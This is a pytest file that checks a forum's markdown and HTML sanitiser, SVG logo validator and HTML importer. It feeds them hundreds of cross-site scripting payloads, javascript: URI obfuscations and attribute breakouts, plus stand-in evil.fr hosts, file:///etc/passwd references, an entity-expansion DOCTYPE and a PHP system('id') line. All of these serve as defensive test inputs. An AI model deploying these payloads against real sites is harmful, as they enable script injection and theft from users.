# ruff: noqa: E501 (a payload is easier to judge in one piece)
"""No text runs, restyles or reaches out, whatever it holds: read by a parser and by nh3."""

import re
from collections import Counter
from html.parser import HTMLParser

import hypothesis.strategies as st
import nh3
import pytest
from hypothesis import given, settings

from community.kernel import text
from community.kernel.errors import Invalid

pytestmark = pytest.mark.once

ALLOWED = {
    "a": {"href", "title", "rel", "class"},
    "img": {"src", "alt", "title", "width", "height", "loading"},
    "code": {"class"},
    "ol": {"start"},
    "th": {"class"},
    "td": {"class"},
    "blockquote": {"class"},
}
ADDRESS = re.compile(r"(https?://[^@/\\\s]+([/?#].*)?|/([^/\\].*)?|#.*|mailto:[^\s]+@[^\s]+)", re.S)
CLASSES = re.compile(r"mention|muted|align-(center|end)|language-[A-Za-z0-9+#.-]{1,20}")

CALL = "alert(1)"
SCHEMES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    " javascript:alert(1)", "\x01javascript:alert(1)", "javascript&colon;alert(1)", "javascript:123",
    "javascript&#58;alert(1)", "&#106;avascript:alert(1)", "&#x6A&#x61;vascript:alert(1)",
    "java\u200bscript:alert(1)", "\u202ejavascript:alert(1)", "javascript\\x3aalert(1)", "jav&Tab;ascript:x",
    "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:image/svg+xml;base64,PHN2Zz4=",
    "view-source:javascript:alert(1)", "blob:https://a.fr/x", "file:///etc/passwd", "//evil.fr/x",
    "/\\evil.fr", "\\\\evil.fr", "/\t/evil.fr", "http:evil.fr", "https:///evil.fr", "https://good.fr@evil.fr/",
    "https://good.fr\\@evil.fr", "http://[::1", "intent://x#Intent;end", "ms-word:ofe|u|x", "%6aavascript:alert(1)",
    "javascript://a.fr/%0aalert(1)", "feed:javascript:alert(1)", "mailto:x", "tel:1", "?x", "x.html", "",
]  # fmt: skip
PLACES = ["[x]({})", "![x]({})", "<{}>", "[x]: {}\n\n[x]", '<a href="{}">x</a>', "[x](<{}>)"]
ELEMENTS = [
    "<script>alert(1)</script>", "<script src=//evil.fr></script>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)>x</a>", "<math><mtext><style><img src=x onerror=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>", "<object data=javascript:alert(1)>", "<embed src=//evil.fr/x.swf>",
    "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>",
    "<link rel=stylesheet href=//evil.fr>", "<style>*{background:url(//evil.fr)}</style>", "<base href=//evil.fr>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<form action=//evil.fr><input name=x>",
    "<button formaction=javascript:alert(1)>x", "<p style='position:fixed;inset:0'>x", "<p id=location>x",
    "<a name=body>x", "<p class=admin>x", "<p data-hx-get=/logout>x", "<p hx-on:click=alert(1)>x",
    "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>", "<title></title><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>", "<plaintext><script>", "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><script>alert(1)</script>",
    "<select><style></select><img src=x onerror=alert(1)></style>", "<table background=//evil.fr>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<div><table><a href=javascript:alert(1)>x</table></div>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img/src=x/onerror=alert(1)>", "<img src=`x` onerror=alert(1)>", "<IMG SRC=x OnErRoR=alert(1)>",
    "<\x00script>alert(1)</script>", "<script\x0c>alert(1)</script>", "\ufeff<script>alert(1)</script>",
    "<b onmouseover=alert(1)>x</b>", "<img src=x:x onerror=alert(1) //", "<a href='javascript:alert(1)'",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<isindex type=image src=1 onerror=alert(1)>", "<svg><style>{font-family&colon;'<iframe/onload=alert(1)>'",
    "{{constructor.constructor('alert(1)')()}}", "<%= alert(1) %>", "${alert(1)}", "<foo bar=\"'\" onx='>'>",
]  # fmt: skip
BREAKOUTS = [
    '[x](https://a.fr "\\"onmouseover=alert(1) x=\\"")', "[x](https://a.fr 'a\" onclick=\"alert(1)')",
    '![x" onerror="alert(1)](/media/a.webp)', '![x](/media/a.webp "\\" onerror=\\"alert(1)")',
    '![x](/media/a.webp"onerror=alert(1))', "[x](https://a.fr/\"onclick=alert(1))", "<https://a.fr/\"onclick=x>",
    "<https://a.fr/'onclick=alert(1)//>", "https://a.fr/\"onmouseover=alert(1)", "https://a.fr/'><script>alert(1)",
    '```"><script>alert(1)</script>\nx\n```', "```js\" onload=\"alert(1)\nx\n```", "~~~<img/src=x/onerror=alert(1)>\nx\n~~~",
    "`<script>alert(1)</script>`", "    <script>alert(1)</script>", "# <img src=x onerror=alert(1)>",
    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|", "> <svg onload=alert(1)>", "- <svg onload=alert(1)>",
    "[<img src=x onerror=alert(1)>](https://a.fr)", "[a][<script>]\n\n[<script>]: https://a.fr 'x'",
    "[x]: https://a.fr '\"><script>alert(1)</script>'\n\n[x]", "@marie\"><script>alert(1)</script>",
    "@<script>marie</script>", "[@marie\" class=\"mention](/m/marie)", "1<script>. x", "*<script>*alert(1)*</script>*",
    "\\<script>alert(1)\\</script>", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "[x](https://a.fr/?a=<script>)", "![](/media/../../etc)", "![](/media/a.webp#\"onload=x)", "[x](/\"onclick=alert(1))",
]  # fmt: skip
CORPUS = [
    *(place.format(scheme) for place in PLACES for scheme in SCHEMES),
    *ELEMENTS,
    *BREAKOUTS,
    *(f"> **{payload}**\n\n- {payload}" for payload in ELEMENTS),
]


class _Reader(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))
        assert len(dict(attrs)) == len(attrs)

    def _never(self, *_args):
        raise AssertionError("a comment, declaration or instruction came through")

    handle_comment = handle_decl = handle_pi = unknown_decl = _never


def tags(html):
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.found


def assert_inert(html):
    for tag, attributes in tags(html):
        assert tag in text.TAGS
        assert set(attributes) <= ALLOWED.get(tag, set())
        if "href" in attributes:
            assert ADDRESS.fullmatch(attributes["href"]), attributes
            external = attributes["href"].lower().startswith("http")
            assert attributes.get("rel") == ("ugc nofollow noopener" if external else None)
        if tag == "img":
            assert re.fullmatch(r"/media/[\w./-]+", attributes["src"])
            assert ".." not in attributes["src"] and attributes["loading"] == "lazy"
        assert CLASSES.fullmatch(attributes.get("class", "muted"))


def second_opinion(html):
    """The same allow-list in another sanitiser, written in another language."""
    return nh3.clean(
        html,
        tags=set(text.TAGS),
        attributes={tag: set(names) - {"rel"} for tag, names in ALLOWED.items()}
        | {"a": {"href", "title", "class", "rel"}},
        url_schemes={"http", "https", "mailto"},
        link_rel=None,
    )


def shape(html):
    return Counter((tag, tuple(sorted(attributes.items()))) for tag, attributes in tags(html))


def test_the_corpus_is_as_large_as_it_claims():
    assert len(set(CORPUS)) >= 300


@pytest.mark.parametrize("payload", CORPUS)
def test_nothing_hostile_comes_through(payload):
    shown = [
        text.render(payload, people={"marie": "/m/marie"}),
        text.render(payload, muted_quotes={1}),
        text.render(text.from_html(payload)),
        text.render(text.quote(payload, name=payload, url="/t/1/s#post-1", post_id=1)),
    ]
    for html in shown:
        assert text.sanitise(html) == html
    for html in (*shown, text.sanitise(payload)):
        assert_inert(html)
        assert shape(second_opinion(html)) == shape(html)


PIECES = st.sampled_from(
    ["<", ">", '"', "'", "&", "svg", "math", "style", "img", "src=", "onerror=", "javascript:",
     "<!--", "-->", "</", "<a href=", "`", "*", "[x](", ")", "\n", "&#x6A;", "title", "<p", "/",
     "=", "\x00", "\t", "noscript", "<table>", "<script>", "é", "|", "https://a.fr", "@marie", "!["]
)  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.lists(st.one_of(PIECES, st.text(max_size=3)), max_size=30).map("".join))
def test_no_mixture_comes_through_either(source):
    html = text.render(source, people={"marie": "/m/marie"})
    assert text.sanitise(html) == html
    assert_inert(html)
    assert_inert(text.sanitise(source))


# -- a brand's logo ----------------------------------------------------------------------------

HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
LOGO = HEAD + (
    'viewBox="0 0 10 10"><title>Lune &amp; fils</title><defs><linearGradient id="a">'
    '<stop offset="0" stop-color="#fff"/></linearGradient></defs>'
    '<g class="x" transform="translate(1 2)"><path d="M0 0L1,1-2e3z" fill="url(#a)"/></g></svg>'
)


def test_a_plain_logo_is_kept_with_ids_of_its_own():
    drawn = text.svg(LOGO)
    assert '<linearGradient id="logo-a">' in drawn and 'fill="url(#logo-a)"' in drawn
    assert "<title>Lune &amp; fils</title>" in drawn and 'viewBox="0 0 10 10"' in drawn
    assert "class" not in drawn and drawn.startswith("<svg xmlns=")
    assert drawn.count("logo-logo") == 0


def test_what_drawing_programs_leave_behind_is_dropped():
    source = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<!-- made by hand -->\n<!DOCTYPE svg PUBLIC '
        '"-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:inkscape='
        '"http://www.inkscape.org/namespaces/inkscape" inkscape:version="1" width="9" height="9">'
        '<metadata><x xmlns="urn:x"/></metadata><inkscape:grid/><rect width="9" height="9"/></svg>'
    )
    assert text.svg(source).endswith('<rect width="9" height="9"></rect></svg>')


INSIDE = [
    "<script>alert(1)</script>", "<style>*{}</style>", '<a href="/x"><rect/></a>', "<foreignObject/>",
    '<image href="https://evil.fr/x"/>', '<use href="#a"/>', '<use xlink:href="//evil.fr#a"/>',
    '<rect onload="alert(1)"/>', '<rect style="fill:red"/>', '<rect fill="url(https://evil.fr#a)"/>',
    '<rect fill="url(//evil.fr)"/>', '<rect fill="URL(&#x2f;&#x2f;evil.fr)"/>', '<animate attributeName="x"/>',
    '<set attributeName="href" to="javascript:alert(1)"/>', "<text>Lune</text>", "loose words",
    '<rect id="&quot;onload"/>', '<rect href="javascript:alert(1)"/>', '<rect fill="javascript:alert(1)"/>',
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>', "<filter/>", "<iframe/>",
    '<rect xml:base="https://evil.fr"/>x', '<rect fill="\\75rl(x)"/>', '<rect mask="url(&apos;data:x#a&apos;)"/>',
    "<?php system('id') ?>", "<![CDATA[<script>]]>", "<g>" * 40 + "</g>" * 40, "<g/>" * 2_001,
]  # fmt: skip


@pytest.mark.parametrize("inside", INSIDE)
def test_a_logo_with_more_than_drawing_is_refused(inside):
    with pytest.raises(Invalid):
        text.svg(f'{HEAD}viewBox="0 0 1 1">{inside}</svg>')


@pytest.mark.parametrize(
    "source",
    ["", "x", "<svg", "<svg/>", '<svg viewBox="0 0 1 1"/>', "<html/>", f"{HEAD}/>",
     f'{HEAD}viewBox="0 0 1 1" onload="alert(1)"/>', f'{HEAD}viewBox="0 0 1 1">&x;</svg>',
     '<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>' + LOGO,
     '<!DOCTYPE svg SYSTEM "file:///etc/passwd">' + LOGO,
     '<?xml-stylesheet href="//evil.fr"?>' + LOGO, LOGO + "<script/>", LOGO + " " * 100_000],
)  # fmt: skip
def test_what_is_no_plain_svg_is_refused(source):
    with pytest.raises(Invalid):
        text.svg(source)


# -- HTML from elsewhere -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("html", "markdown"),
    [
        ("<p>a <b>b</b> <i>c</i></p><p>d</p>", "a **b** *c*\n\nd"),
        ("<h2>T</h2><p>x</p>", "## T\n\nx"),
        ("<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>", "- a\n  - b\n- c"),
        ("<ol start='3'><li>a</li><li>b</li></ol>", "3. a\n4. b"),
        ("<blockquote><p>a</p><p>b</p></blockquote>", "> a\n>\n> b"),
        ("<pre><code class='lang-py'>if *a*:\n  b</code></pre>", "```py\nif *a*:\n  b\n```"),
        ("<pre>a\n```\nb</pre>", "````\na\n```\nb\n````"),
        ("<p><code>a_b</code></p>", "`a_b`"),
        ("<a href='https://a.fr/x_(y)'>l</a>", "[l](https://a.fr/x_%28y%29)"),
        ("<a href='https://a.fr'>https://a.fr</a>", "<https://a.fr>"),
        ("<a href='javascript:alert(1)'>l</a>", "l"),
        ("<a href='/showthread.php?t=1'>l</a>", "[l](/showthread.php?t=1)"),
        ("<img src='https://e.fr/i/cat.png' alt='A [cat]'>", "[A \\[cat\\]](https://e.fr/i/cat.png)"),
        ("<img src='https://e.fr/cat.png'>", "[cat.png](https://e.fr/cat.png)"),
        ("<img src='/media/a/b.webp' alt='mine'>", "![mine](/media/a/b.webp)"),
        ("<img src='data:image/png;base64,AAAA' alt='x'>", ""),
        ("<a href='https://e.fr/big'><img src='https://e.fr/s.png'></a>", "[s.png](https://e.fr/big)"),
        ("<iframe src='https://v.fr/1'></iframe>", "<https://v.fr/1>"),
        ("<script>alert(1)</script><style>x</style>a<!-- b -->", "a"),
        ("2 * 3 * 4 and snake_case", "2 \\* 3 \\* 4 and snake_case"),
        ("<p># no heading</p><p>1. no list</p>", "\\# no heading\n\n1\\. no list"),
        ("<table><tr><th>a</th></tr><tr><td>1|2</td></tr></table>", "| a |\n| --- |\n| 1\\|2 |"),
        ("plain text", "plain text"),
        ("", ""),
    ],
)  # fmt: skip
def test_html_of_an_import_becomes_the_markdown_we_store(html, markdown):
    assert text.from_html(html) == markdown


@pytest.mark.parametrize(
    "html",
    ["<b>" * 5_000 + "deep", "<ul><li>" * 2_000 + "deep", "</p></div><", "<a href=>x", "<img>", "https://a.fr",
     "<?xml version='1.0'?><p>x", "<td>x", "<ol start=x><li>a", "<pre>", "\x00<p>\ud800x", "&#0;&#xD800;&bogus;",
     "<!DOCTYPE html><title>t</title><p>x", "<a href='http://['>x</a>", "a.html", "<![a", "<!<![x]>y", "<ol start='-5'><li>x</ol>"],
)  # fmt: skip
def test_odd_html_is_converted_as_well_as_it_can_be(html):
    markdown = text.from_html(html)
    assert_inert(text.render(markdown))
    assert ("deep" in markdown) == ("deep" in html)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.one_of(PIECES, st.text(max_size=4)), max_size=25).map("".join))
def test_no_html_makes_the_import_fail(html):
    text.render(text.from_html(html))
